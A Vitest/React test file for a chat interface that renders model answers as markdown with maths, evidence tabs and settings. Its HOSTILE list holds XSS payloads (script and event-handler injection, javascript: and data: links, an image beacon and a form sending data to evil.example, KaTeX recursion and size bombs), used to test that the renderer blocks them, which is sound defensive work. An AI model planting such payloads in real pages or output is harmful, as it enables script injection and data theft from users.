import axe from 'axe-core';
import { fireEvent, render, screen, waitFor } from '@testing-library/react';
import { describe, expect, test, vi } from 'vitest';

import DataTable, { sortRows } from '../src/components/DataTable.jsx';
import Evidence from '../src/components/evidence/Evidence.jsx';
import StageTrace from '../src/components/evidence/StageTrace.jsx';
import { AnswerContext } from '../src/components/markdown/context.js';
import MarkdownMessage, { renders } from '../src/components/MarkdownMessage.jsx';
import Settings from '../src/components/Settings.jsx';
import { emptyAnswer } from '../src/lib/answer.js';
import { options } from '../src/lib/chat.js';
import { keepAtOnce, removeConversation, takeAtOnce } from '../src/lib/history.js';
import { LOCAL_KEYS, SHORTCUTS, keyNames, shortcutOf } from '../src/lib/keys.js';
import { isSoftware, sceneAllowed } from '../src/lib/scene.js';
import { DEFAULTS } from '../src/lib/settings.js';
import { readHash, useApp } from '../src/lib/store.js';

HTMLDialogElement.prototype.showModal ??= function show() {
  this.open = true;
};
HTMLDialogElement.prototype.close ??= function close() {
  this.open = false;
};

/** Nothing that axe can tell without a layout; colours are checked in the browser. */
async function accessible(container) {
  const found = await axe.run(container, {
    rules: { 'color-contrast': { enabled: false }, region: { enabled: false } },
  });
  expect(found.violations.map((v) => `${v.id}: ${v.nodes[0].html}`)).toEqual([]);
}

const show = async (text, context = null) => {
  const { container } = render(
    <AnswerContext value={context}>
      <MarkdownMessage text={text} />
    </AnswerContext>,
  );
  await waitFor(() => expect(container.querySelector('[data-loading]')).toBeNull());
  await vi.dynamicImportSettled();
  return container;
};

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '[x](javascript:window.hacked=1)',
  '[x](JaVaScRiPt:window.hacked=1)',
  '[x]( java\nscript:window.hacked=1)',
  '[x](data:text/html,<script>window.hacked=1</script>)',
  '[x](vbscript:x)',
  '![x](https://evil.example/collect?secret=1)',
  '![x](javascript:window.hacked=1)',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<svg onload="window.hacked=1"></svg>',
  '$$\\href{javascript:window.hacked=1}{x}$$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '$$\\htmlClass{x}{y}$$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$\\rule{9999em}{9999em}$$',
  '[x][r]\n\n[r]: javascript:window.hacked=1',
  '<a href="https://evil.example">x</a><form action="https://evil.example"><input></form>',
];

describe('Markdown of a model', () => {
  test.each(HOSTILE)('does nothing: %s', async (text) => {
    const box = await show(text);
    expect(box.querySelector('script, iframe, svg[onload], form, input, object, embed')).toBeNull();
    for (const node of box.querySelectorAll('*')) {
      for (const { name, value } of node.attributes) {
        expect(name).not.toMatch(/^on/);
        if (['href', 'src', 'action'].includes(name)) expect(value).toMatch(/^(https:|mailto:|#)/);
      }
    }
    expect([...box.querySelectorAll('img')]).toEqual([]);
    expect(window.hacked).toBeUndefined();
  });

  test('keeps money, and sets maths', async () => {
    const box = await show(
      'It costs $5 to $40, and \\(x^2\\) is a square.\n\n$$\n\\frac{1}{2}\n$$',
    );
    await waitFor(() => expect(box.querySelectorAll('.katex')).toHaveLength(2));
    expect(box.textContent).toContain('$5 to $40');
  });

  test('shows links with their host, and blocked pictures by name', async () => {
    const box = await show('[docs](https://example.org/a) ![chart](https://example.org/c.png)');
    const link = box.querySelector('a');
    expect(link.rel).toBe('noopener noreferrer nofollow');
    expect(link.textContent).toContain('example.org');
    expect(box.textContent).toContain('[image blocked: chart]');
  });

  test('renders no finished block again while text streams in', async () => {
    const parts = Array.from({ length: 40 }, (_, i) => `Paragraph ${i} with [${i}](#v:r1.n).\n\n`);
    const { rerender } = render(<MarkdownMessage text="" />);
    await vi.dynamicImportSettled();
    const before = renders.count;
    let text = '';
    let commits = 0;
    for (const part of parts) {
      for (const piece of [part.slice(0, 9), part.slice(9)]) {
        text += piece;
        rerender(<MarkdownMessage text={text} />);
        commits += 1;
      }
    }
    expect(renders.count - before).toBeLessThanOrEqual(commits + parts.length);
  });
});

const RESULTS = [
  {
    name: 'r1',
    operation: 'stats.mean',
    values: { n: 12, mean: 10.2846153 },
    tables: [],
    figures: [],
  },
];

describe('numbers of an answer', () => {
  const context = () => ({ results: RESULTS, citations: [{ n: 1, title: 'Charts' }], showValue: vi.fn(), showCitation: vi.fn(), figure: () => <p>figure</p> }); // prettier-ignore

  test('open what made them', async () => {
    const links = context();
    await show('Mean [10.28](#v:r1.mean) [[1]](#c:1)', links);
    fireEvent.click(await screen.findByText('10.28'));
    expect(links.showValue).toHaveBeenCalledWith('#v:r1.mean', '10.28', expect.any(HTMLElement));
    fireEvent.click(screen.getByRole('link', { name: 'Source 1: Charts' }));
    expect(links.showCitation).toHaveBeenCalledWith(1);
  });

  test('that no result vouches for are marked', async () => {
    const box = await show('[10.28](#v:r1.mean) [11](#v:r1.mean) [5](#v:r7.x)', context());
    const marks = [...box.querySelectorAll('[data-verified]')].map((a) => a.dataset.verified);
    expect(marks).toEqual(['true', 'false', 'false']);
    expect(box.textContent).toContain('(unverified)');
  });

  test('figures stand where the text places them', async () => {
    const box = await show('a\n\n[[figure:r1.1]]\n\nb', context());
    expect(box.textContent).toBe('afigureb');
  });
});

const ANSWER = {
  ...emptyAnswer(),
  phase: 'done',
  program: 'r1 = stats.mean(x=[1, 2])',
  results: [{ ...RESULTS[0], assumptions: [{ name: 'normality', met: false, detail: 'W = 0.5', statistic: 0.5, p_value: 0.001 }] }],
  audit: { passed: false, checks: [{ name: 'r1.mean', value: 1, recomputed: 2, tolerance: 1e-9, passed: false }] },
  candidates: [
    { program: 'r1 = stats.mean(x=[1, 2])', score: -0.1, source: 'model', outcome: 'executed' },
    { program: 'r1 = stats.median(x=[1, 2])', score: -2, source: 'model', outcome: 'needs y' },
  ],
  citations: [{ n: 1, id: 'a', title: 'Charts', source: 'handbook', text: 'Text of it' }],
  stages: [{ name: 'mode', status: 'finished', ms: 12, note: { task: 'spc', confidence: 0.9, difficulty: 'easy', risk: 'high' } }],
  provenance: { model: 'm@1', data: 'd' },
}; // prettier-ignore

describe('what is behind an answer', () => {
  test.each([
    ['program', 'stats.mean'],
    ['results', 'differs'],
    ['audit', '0 of 1 checks passed'],
    ['assumptions', 'does not hold'],
    ['candidates', 'needs y'],
    ['sources', 'Charts'],
    ['trace', 'What kind of question'],
    ['provenance', 'm@1'],
  ])('%s', async (tab, text) => {
    const { container } = render(<Evidence answer={ANSWER} open={tab} onOpen={() => {}} onRerun={async () => {}} onCitation={() => {}} />); // prettier-ignore
    await vi.dynamicImportSettled();
    await waitFor(() => expect(screen.getByRole('tabpanel').textContent).toContain(text));
    await accessible(container);
  });

  test('a program can be changed and run; a refusal is shown', async () => {
    const rerun = vi.fn().mockRejectedValue(new Error('line 1, column 6: no operation'));
    render(<Evidence answer={ANSWER} open="program" onOpen={() => {}} onRerun={rerun} />);
    fireEvent.click(screen.getByRole('button', { name: 'Edit' }));
    fireEvent.change(screen.getByRole('textbox', { name: 'Program' }), { target: { value: 'x' } });
    fireEvent.click(screen.getByRole('button', { name: 'Run' }));
    expect(await screen.findByRole('alert')).toHaveProperty(
      'textContent',
      'line 1, column 6: no operation',
    );
    expect(rerun).toHaveBeenCalledWith({ program: 'x', reason: 'program edited' });
  });

  test('stages tell which one is at work', () => {
    const { container } = render(<StageTrace live stages={[{ name: 'mode', status: 'finished', ms: 3 }, { name: 'ground', status: 'started', ms: 0 }]} />); // prettier-ignore
    const states = [...container.querySelectorAll('[data-status]')].map((e) => e.dataset.status);
    expect(states).toEqual(['finished', 'started', ...Array(6).fill('pending')]);
  });
});

describe('tables', () => {
  test('sort by number, by word, and with what is missing at the end', () => {
    const rows = [[10, 'b'], [9, 'a10'], [null, 'a9']]; // prettier-ignore
    expect(sortRows(rows, { column: 0, down: false }).map((r) => r[0])).toEqual([9, 10, null]);
    expect(sortRows(rows, { column: 0, down: true }).map((r) => r[0])).toEqual([10, 9, null]);
    expect(sortRows(rows, { column: 1, down: false }).map((r) => r[1])).toEqual(['a9', 'a10', 'b']);
  });

  test('say how they are sorted', async () => {
    const { container } = render(<DataTable name="runs" columns={['a']} rows={[[2], [1]]} />);
    fireEvent.click(screen.getByRole('button', { name: 'a' }));
    expect(screen.getByRole('columnheader').getAttribute('aria-sort')).toBe('ascending');
    expect(screen.getAllByRole('cell').map((c) => c.textContent)).toEqual(['1', '2']);
    await accessible(container);
  });
});

describe('settings', () => {
  test('change what is sent', () => {
    expect(options(DEFAULTS)).toEqual({ reasoning: true, detail: 'normal' });
    expect(options({ ...DEFAULTS, reasoning: false, preset: 'precise' })).toMatchObject({
      reasoning: false,
      temperature: 0.1,
    });
    expect(options({ ...DEFAULTS, reasoning: false })).not.toHaveProperty('seed');
  });

  test('can be set by keyboard and are named', async () => {
    const { container } = render(<Settings onClose={() => {}} />);
    fireEvent.click(screen.getByLabelText('Precise'));
    expect(useApp.getState().settings.preset).toBe('precise');
    fireEvent.change(screen.getByLabelText(/Temperature/), { target: { value: '0.3' } });
    expect(useApp.getState().settings).toMatchObject({
      preset: 'custom',
      sampling: { temperature: 0.3, top_k: 20 },
    });
    fireEvent.click(screen.getByLabelText('Dark'));
    expect(document.documentElement.dataset.theme).toBe('dark');
    expect(localStorage.getItem('havoc.settings')).not.toContain('key');
    await accessible(container);
  });

  test('the scene is off where a machine draws by software or motion is not wanted', () => {
    expect(isSoftware('ANGLE (Google, Vulkan 1.3.0 (SwiftShader Device (Subzero)))')).toBe(true);
    expect(isSoftware('ANGLE (Intel, Mesa Intel(R) UHD Graphics 620)')).toBe(false);
    expect(sceneAllowed('auto', 'Intel UHD', false)).toBe(true);
    expect(sceneAllowed('auto', 'Intel UHD', true)).toBe(false);
    expect(sceneAllowed('auto', 'llvmpipe', false)).toBe(false);
    expect(sceneAllowed('on', 'llvmpipe', true)).toBe(true);
    expect(sceneAllowed('on', '', false)).toBe(false);
  });
});

describe('the keyboard', () => {
  const press = (key, more = {}) => shortcutOf({ key, target: document.body, ...more });

  test('knows its shortcuts, and leaves typing alone', () => {
    expect(press('k', { ctrlKey: true })).toBe('search');
    expect(press('?', { shiftKey: true })).toBe('help');
    expect(press('k')).toBeNull();
    expect(press('/', { target: document.createElement('textarea') })).toBeNull();
    expect(press('Escape', { target: document.createElement('textarea') })).toBe('stop');
    expect(press('º', { altKey: true, code: 'Digit2' })).toBe('worksheet');
  });

  test('each key is listed once', () => {
    const keys = SHORTCUTS.map((s) => s.keys);
    expect(new Set(keys).size).toBe(keys.length);
    expect(keyNames(LOCAL_KEYS[1].keys)).toEqual(['Shift', 'Enter']);
  });
});

test('the address names the view and what is open in it', () => {
  expect(readHash('#/operations/spc.xbar_r')).toEqual({ view: 'operations', rest: 'spc.xbar_r' });
  expect(readHash('#/nowhere')).toEqual({ view: 'chat', rest: '' });
  expect(readHash('')).toEqual({ view: 'chat', rest: '' });
});

describe('a conversation that a reload would cut off', () => {
  const talk = { id: 'c-1', title: 'chart', nodes: {} };

  test('is kept before the page goes, and handed over once', () => {
    keepAtOnce([talk]);
    expect(takeAtOnce()).toEqual([talk]);
    expect(takeAtOnce()).toEqual([]);
  });

  test('is not kept where it is too large, or was deleted', async () => {
    keepAtOnce([{ ...talk, title: 'x'.repeat(3_000_000) }]);
    expect(takeAtOnce()).toEqual([]);
    keepAtOnce([talk, { ...talk, id: 'c-2' }]);
    await removeConversation('c-1');
    expect(takeAtOnce().map((c) => c.id)).toEqual(['c-2']);
  });

  test('is nothing where storage holds what is not ours', () => {
    localStorage.setItem('havoc-at-once', '{broken');
    expect(takeAtOnce()).toEqual([]);
  });
});
